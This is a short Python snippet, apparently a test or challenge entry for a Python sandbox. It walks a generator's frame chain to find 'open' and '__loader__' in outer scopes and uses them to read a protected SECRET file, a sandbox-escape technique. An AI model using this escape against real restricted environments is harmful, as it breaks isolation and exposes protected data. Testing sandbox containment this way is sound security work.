def walk():
    frame = me.gi_frame
    while frame:
        for names in (frame.f_globals, frame.f_locals, frame.f_builtins):
            if "open" in names: steal(lambda: names["open"](SECRET))
            if "__loader__" in names: tell(attempt(lambda: names["__loader__"].get_data(SECRET)))
        frame = frame.f_back
    yield
me = walk()
next(me)
